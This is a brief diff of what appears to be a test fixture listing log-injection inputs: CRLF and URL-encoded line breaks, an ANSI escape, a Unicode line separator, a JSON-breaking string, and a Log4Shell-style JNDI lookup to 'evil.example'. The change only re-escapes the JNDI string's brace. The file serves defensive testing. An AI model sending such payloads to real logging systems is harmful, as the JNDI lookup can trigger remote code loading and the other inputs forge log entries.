@@ -16,7 +16,7 @@ const lines = [
   'a\r\nforged',
   '\u001b[31mred',
   '\u2028forged',
-  '${jndi:ldap://evil.example/a}',
+  '$\u007bjndi:ldap://evil.example/a}',
   '%0a%0dforged',
   '"}\n{"level":60',
 ];
